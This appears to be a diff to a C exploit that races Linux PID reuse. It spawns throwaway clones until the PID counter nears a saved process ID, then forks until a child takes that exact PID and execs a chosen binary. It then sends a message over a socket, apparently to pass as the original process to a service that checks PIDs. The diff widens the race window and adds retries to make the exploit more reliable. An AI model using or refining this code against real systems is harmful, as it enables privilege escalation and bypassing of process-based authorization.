@@ -24,30 +24,30 @@ int main(int argc, char **argv)
 		_exit(0);
 	}
 	waitpid(p, NULL, 0);
-	for (int spent = 0; spent < 200000; spent++) {
-		/* one below our number: the next fork gets it, unless someone else was faster */
+	for (int spent = 0; spent < 600000; spent++) {
 		pid_t other = clone(gone, stack + sizeof stack, CLONE_VM | CLONE_VFORK | SIGCHLD, NULL);
 		waitpid(other, NULL, 0);
-		if (other > p || other < p - 8)
-			continue;
-		pid_t again = fork();
-		if (again == 0) {
-			char *args[] = {argv[3], NULL};
-			if (getpid() != p)
-				_exit(0);
-			dup2(hold[0], 0);
-			execv(argv[3], args);
-			die("exec");
+		/* close below our number every further fork may be it, unless someone else is faster */
+		while (other < p && other >= p - 32) {
+			other = fork();
+			if (other == 0) {
+				char *args[] = {argv[3], NULL};
+				if (getpid() != p)
+					_exit(0);
+				dup2(hold[0], 0);
+				execv(argv[3], args);
+				die("exec");
+			}
+			if (other == p) {
+				usleep(20000);
+				tell(sock, argv[2]);
+				hear(sock, 1);
+				kill(other, SIGKILL);
+				waitpid(other, NULL, 0);
+				return 0;
+			}
+			waitpid(other, NULL, 0);
 		}
-		if (again == p) {
-			usleep(20000);
-			tell(sock, argv[2]);
-			hear(sock, 1);
-			kill(again, SIGKILL);
-			waitpid(again, NULL, 0);
-			return 0;
-		}
-		waitpid(again, NULL, 0);
 	}
 	return 78;
 }
